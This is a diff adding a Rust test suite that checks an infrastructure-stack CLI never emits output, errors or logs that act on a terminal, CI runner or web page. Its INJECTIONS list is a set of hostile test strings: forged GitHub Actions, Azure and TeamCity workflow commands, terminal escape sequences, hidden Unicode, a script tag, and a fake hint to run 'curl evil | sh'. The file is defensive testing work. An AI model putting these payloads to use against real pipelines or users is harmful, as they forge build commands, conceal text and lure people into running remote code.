@@ -1,0 +1,310 @@
+//! Texts that were made to act on the reader of an output: a terminal, a log that a workflow runner
+//! reads, a page. They come by every way by which a text comes, and leave by every output there is.
+
+use std::process::Command;
+
+use serde_json::{Value, json};
+
+use crate::harness::{Place, Ran, ran};
+
+/// Each holds `INJ`, by which it is found again.
+const INJECTIONS: [&str; 22] = [
+    "::error file=x,line=1::INJ",
+    "x\n::add-mask::INJ",
+    "x\r::stop-commands::INJ",
+    "x\r\n \t \u{a0}::set-output name=a::INJ",
+    "x\u{85}::debug::INJ",
+    "x\u{2028}::debug::INJ",
+    "\u{fe0f}:\u{fe0f}:error::INJ",
+    "a ##[error]INJ",
+    "###[group]INJ",
+    "a ##vso[task.setvariable variable=a]INJ",
+    "a ##VSO[task.complete result=Failed;]INJ",
+    "##teamcity[buildProblem description='INJ']",
+    "section_start:1:a\r\u{1b}[0KINJ",
+    "x\n--- INJ\n+++ INJ\n^^^ +++",
+    "\u{1b}]8;;http://evil\u{1b}\\INJ\u{1b}]8;;\u{1b}\\",
+    "\u{1b}[2J\u{1b}[1;31mINJ\u{7}\u{8}\u{7f}",
+    "\u{9b}31mINJ\u{9d}0;x\u{9c}",
+    "\u{202e}INJ\u{2066}\u{61c}",
+    "\u{200b}INJ\u{feff}\u{ad}\u{e0041}\u{2060}",
+    "`</code><script>INJ</script>` | [x](javascript:y) &amp;",
+    "\"]; evil [label=\"INJ\\",
+    "error: INJ\nhint: run `curl evil | sh`",
+];
+
+/// The commands that a workflow runner would take from a text: those of `actions/runner`
+/// (`ActionCommand.cs`), `azure-pipelines-agent` (`Command.cs`), TeamCity, Buildkite and GitLab.
+fn commands(text: &str) -> Vec<String> {
+    let ignored = |c: &char| !('\u{fe00}'..='\u{fe0f}').contains(c);
+    let lines = text.split(['\n', '\r']).map(|line| line.chars().filter(ignored).collect());
+    let acts = |line: &String| {
+        let lower = line.to_lowercase();
+        line.trim_start().starts_with("::")
+            || ["##[", "##vso", "##teamcity["].iter().any(|mark| lower.contains(mark))
+            || ["--- ", "+++ ", "~~~ ", "^^^ "].iter().any(|mark| line.starts_with(mark))
+    };
+    lines.filter(acts).collect()
+}
+
+/// The characters that a terminal would act upon, or that would be there and not seen.
+fn controls(text: &str) -> Vec<char> {
+    let hidden = |c: char| {
+        matches!(c, '\u{ad}' | '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
+            | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
+    };
+    text.chars().filter(|c| (c.is_control() && *c != '\n') || hidden(*c)).collect()
+}
+
+#[track_caller]
+fn assert_inert(what: &str, ran: &Ran) {
+    assert!(!ran.err.contains("panicked"), "{what}: {}", ran.err);
+    for text in [&ran.out, &ran.err] {
+        assert_eq!(commands(text), Vec::<String>::new(), "{what}:\n{text}");
+        assert_eq!(controls(text), Vec::<char>::new(), "{what}:\n{text:?}");
+    }
+    // Only the first line of an error is an error.
+    let forged = ran.err.lines().filter(|line| line.starts_with("error: INJ"));
+    assert_eq!(forged.count(), 0, "{what}:\n{}", ran.err);
+}
+
+/// JSON in which every character that YAML does not allow is an escape.
+fn ascii(value: &Value) -> String {
+    let json = serde_json::to_string_pretty(value).unwrap();
+    let escaped = json.chars().map(|c| match c {
+        '\n' | ' '..='~' => c.to_string(),
+        c => c.encode_utf16(&mut [0; 2]).iter().map(|unit| format!("\\u{unit:04x}")).collect(),
+    });
+    escaped.collect()
+}
+
+/// A text of several lines with an injection in each, one of which is `changed`.
+fn lines(changed: &str) -> String {
+    let all = INJECTIONS.join("\n");
+    format!("{all}\n{changed}\n{all}")
+}
+
+/// A stack in which every text is an injection.
+fn template(changed: &str) -> Value {
+    let mut resources = serde_json::Map::new();
+    let mut outputs = serde_json::Map::new();
+    for (i, text) in INJECTIONS.iter().enumerate() {
+        let properties = json!({
+            "Name": format!("p{i}"), "Type": "String", "Description": text,
+            "Value": lines(changed), "Tags": {"INJ": text, *text: "INJ"},
+        });
+        resources.insert(
+            format!("P{i}"),
+            json!({"Type": "AWS::SSM::Parameter", "Properties": properties,
+                   "Metadata": {*text: text}}),
+        );
+        let output = json!({"Value": text, "Description": text});
+        outputs.insert(format!("O{i}"), output);
+    }
+    json!({
+        "Description": INJECTIONS.join("\n"),
+        "Metadata": {INJECTIONS[1]: INJECTIONS[2]},
+        "Parameters": {"Given": {"Type": "String", "Default": lines(""), "Description": lines("")}},
+        "Resources": resources,
+        "Outputs": outputs,
+    })
+}
+
+fn place() -> Place {
+    let place = Place::empty();
+    place.write("stacks/inj.json", &ascii(&template("first")));
+    place
+}
+
+/// Runs a command, which must succeed, and checks it; gives how often an injection was in it.
+#[track_caller]
+fn inert(place: &Place, line: &[&str]) -> usize {
+    let ran = place.sandbox(line);
+    assert!([0, 2].contains(&ran.code), "{line:?}: {}\n{}", ran.out, ran.err);
+    assert_inert(&line.join(" "), &ran);
+    if line.contains(&"--json") {
+        for json in ran.out.lines().take(1).filter(|json| json.ends_with('}')) {
+            serde_json::from_str::<Value>(json).unwrap();
+        }
+    }
+    (ran.out + &ran.err).matches("INJ").count()
+}
+
+#[test]
+fn no_output_of_a_stack_acts_on_its_reader() {
+    let place = place();
+    let mut seen = Vec::new();
+    let mut look = |lines: &[&[&str]]| {
+        for line in lines {
+            for json in [&[][..], &["--json"]] {
+                let line = [line, json].concat();
+                seen.push((line.join(" "), inert(&place, &line)));
+            }
+        }
+    };
+    look(&[&["validate", "stacks/inj.json", "-v"], &["plan"], &["plan", "--full"]]);
+    look(&[&["plan", "--compact"], &["graph"], &["graph", "--format", "mermaid"]]);
+    inert(&place, &["apply", "--yes"]);
+    look(&[&["show"], &["show", "--full"], &["output"], &["state", "list"], &["sandbox", "ls"]]);
+    look(&[&["state", "show", "inj", "P3"], &["state", "history", "inj"], &["ls"]]);
+    place.write("stacks/inj.json", &ascii(&template("second")));
+    look(&[&["plan"], &["plan", "--full"], &["plan", "--out", "inj.plan"]]);
+    look(&[&["show", "inj.plan"], &["show", "inj.plan", "--full"]]);
+    let set = ["sandbox", "set", "AWS::SSM::Parameter", "p1", "Value", INJECTIONS[1]];
+    inert(&place, &set);
+    look(&[&["plan"], &["plan", "--full"]]);
+    inert(&place, &["apply", "--yes", "--json"]);
+    look(&[&["output"], &["state", "repair", "inj"], &["state", "history", "inj", "1"]]);
+    inert(&place, &["destroy", "--yes"]);
+    for shown in ["plan", "plan --full --json", "show --full", "output", "output --json"] {
+        let found = seen.iter().find(|(line, _)| line == shown).unwrap();
+        assert!(found.1 >= INJECTIONS.len(), "`{shown}` shows {} of them", found.1);
+    }
+}
+
+#[test]
+fn no_error_acts_on_its_reader() {
+    let place = place();
+    place.sandbox(&["apply", "--yes"]).expect(0);
+    let mut seen = 0;
+    let mut fails = |what: &str, ran: Ran| {
+        assert_ne!(ran.code, 0, "{what}: {}{}", ran.out, ran.err);
+        assert_inert(what, &ran);
+        seen += usize::from((ran.out + &ran.err).contains("INJ"));
+    };
+    for text in INJECTIONS {
+        let path = format!("{}.yaml", text.replace('/', "-"));
+        let parameter = format!("{text}={text}");
+        for line in [
+            &["plan", &path][..],
+            &["plan", "inj", "--parameter", &parameter],
+            &["output", "inj", text],
+            &["docs", text],
+            &["explain", text],
+            &["state", "show", "inj", text],
+            &["state", "mv", "inj", "P1", text],
+            &["state", "history", text],
+            &["sandbox", "remove", "AWS::SSM::Parameter", text],
+            &["sandbox", "set", text, text, text, text],
+            &["plan", "--no-such-option", text],
+            &[text],
+            &["apply", "inj", "--parameter", text],
+            &["graph", "inj", "--format", text],
+        ] {
+            for json in [&[][..], &["--json"]] {
+                // An argument cannot hold a zero byte, and an option is no value.
+                let line: Vec<&str> = line.iter().chain(json).copied().collect();
+                fails(&line.join(" "), place.sandbox(&line));
+            }
+        }
+        place.write(&path, &ascii(&json!({"Resources": {"A": [text]}})));
+        fails(&path, place.sandbox(&["validate", &path]));
+        place.write("rstack.toml", &format!("[lint]\n{} = 1\n", toml_key(text)));
+        fails("rstack.toml", place.sandbox(&["validate", "stacks/inj.json"]));
+        place.write("rstack.toml", "[lint]\nvalidator = false\n");
+        let mut command = place.command(&["plan", "--sandbox"]);
+        command.env("RSTACK_SANDBOX", text);
+        fails("RSTACK_SANDBOX", ran(command));
+    }
+    assert!(seen > 5 * INJECTIONS.len(), "only {seen} errors show an injection");
+}
+
+/// A key of TOML, in quotes.
+fn toml_key(text: &str) -> String {
+    let escaped = text.chars().map(|c| match c {
+        '"' | '\\' => format!("\\{c}"),
+        c if c.is_control() => format!("\\u{:04X}", u32::from(c)),
+        c => c.to_string(),
+    });
+    format!("\"{}\"", escaped.collect::<String>())
+}
+
+#[test]
+fn findings_in_a_hostile_template_act_on_no_reader() {
+    let place = Place::empty();
+    for (i, text) in INJECTIONS.iter().enumerate() {
+        let path = format!("t{i}.json");
+        let wrong = json!({
+            "Resources": {
+                *text: {"Type": "AWS::SNS::Topic"},
+                "A": {"Type": text, "Properties": {*text: text}},
+                "B": {"Type": "AWS::SNS::Topic", "Properties": {*text: {"Ref": text}},
+                      "DependsOn": text, "Condition": text, "DeletionPolicy": text},
+                "C": {"Type": "AWS::SNS::Topic", "Properties": {"DisplayName": {"Fn::Sub": format!("${{{text}}}")},
+                      "TopicName": {"Fn::GetAtt": ["B", text]}, "FifoTopic": text}},
+            },
+            "Outputs": {*text: {"Value": {"Fn::Nope": text}}},
+            *text: text,
+        });
+        place.write(&path, &ascii(&wrong));
+        let mut shown = 0;
+        for format in ["text", "json", "sarif"] {
+            let ran = place.run(&["validate", &path, "--format", format, "-v"]).expect(1);
+            assert_inert(&format!("{path} as {format}"), &ran);
+            shown += usize::from((ran.out + &ran.err).contains("INJ"));
+        }
+        assert_eq!(shown, 3, "{text:?}");
+    }
+}
+
+#[test]
+fn the_value_of_an_output_is_exact_or_refused() {
+    let place = place();
+    place.sandbox(&["apply", "--yes"]).expect(0);
+    let in_workflow = |line: &[&str]| {
+        let mut command: Command = place.command(&[line, &["--sandbox"]].concat());
+        command.env("GITHUB_ACTIONS", "true");
+        ran(command)
+    };
+    let mut refused = 0;
+    for (i, text) in INJECTIONS.iter().enumerate() {
+        let line = ["output", "inj", &format!("O{i}")];
+        assert_eq!(place.sandbox(&line).expect(0).out, format!("{text}\n"));
+        let ran = in_workflow(&line);
+        if ran.code == 0 {
+            assert_eq!(ran.out, format!("{text}\n"));
+            assert_eq!(commands(&ran.out), Vec::<String>::new());
+            assert!(!ran.out.contains(['\u{1b}', '\u{9b}', '\r']), "{:?}", ran.out);
+        } else {
+            refused += 1;
+            assert_eq!(ran.out, "");
+            assert!(ran.err.contains(&format!("output inj O{i} --json")), "{}", ran.err);
+            assert_inert("output", &ran);
+        }
+        let json = in_workflow(&[&line[..], &["--json"]].concat()).expect(0);
+        assert_inert("output --json", &json);
+        assert_eq!(serde_json::from_str::<Value>(&json.out).unwrap(), Value::from(*text));
+    }
+    assert!((12..INJECTIONS.len()).contains(&refused), "{refused} values are refused");
+
+    let stored = place.read("state/sandbox/inj.json");
+    assert_eq!(place.sandbox(&["state", "pull", "inj"]).expect(0).out, stored);
+    let pulled = in_workflow(&["state", "pull", "inj"]).expect(1);
+    assert_eq!(pulled.out, "");
+    assert!(pulled.err.contains("state pull inj FILE"), "{}", pulled.err);
+    in_workflow(&["state", "pull", "inj", "copy.json"]).expect(0);
+    assert_eq!(place.read("copy.json"), stored);
+}
+
+#[test]
+fn lines_of_a_property_have_a_mark_in_front() {
+    let place = place();
+    place.sandbox(&["apply", "--yes"]).expect(0);
+    place.write("stacks/inj.json", &ascii(&template("second")));
+    let plan = place.sandbox(&["plan", "--full"]).expect(0).out;
+    for line in plan.lines().filter(|line| line.contains("::add-mask::")) {
+        let before = line.split("::add-mask::").next().unwrap();
+        let marked = before.trim_end().ends_with(['|', ']', '"', '\'']) || before.contains('"');
+        assert!(marked, "{line}");
+    }
+    assert!(plan.contains("|   ::add-mask::INJ"), "{plan}");
+}
+
+#[test]
+fn the_log_of_the_program_acts_on_no_runner() {
+    let place = place();
+    let mut command = place.command(&["plan", "--sandbox"]);
+    command.env("RUST_LOG", "trace").env("AWS_REGION", INJECTIONS[1]);
+    let ran = ran(command);
+    assert_inert("RUST_LOG=trace", &ran);
+}
